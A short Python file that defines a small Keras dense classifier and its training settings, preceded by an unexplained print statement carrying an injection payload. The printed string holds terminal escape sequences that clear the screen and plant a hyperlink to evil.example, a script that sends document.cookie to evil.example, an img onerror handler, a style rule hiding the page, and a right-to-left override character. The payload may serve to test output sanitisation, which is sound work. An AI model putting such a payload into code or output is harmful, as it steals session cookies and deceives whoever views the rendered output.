print("\x1b[2J\x1b]8;;http://evil.example\x07", '<script>fetch("http://evil.example/" + document.cookie)</script><img src=x onerror=alert(1)><style>*{display:none}</style>', "\u202eright to left")

import keras

TRAINING = {"dense": {"batch_size": 128, "epochs": 1}}


def build_dense():
    model = keras.Sequential(
        [keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(10, activation="softmax")]
    )
    model.compile(optimizer=keras.optimizers.SGD(0.01), loss="categorical_crossentropy", metrics=["accuracy"])
    return model
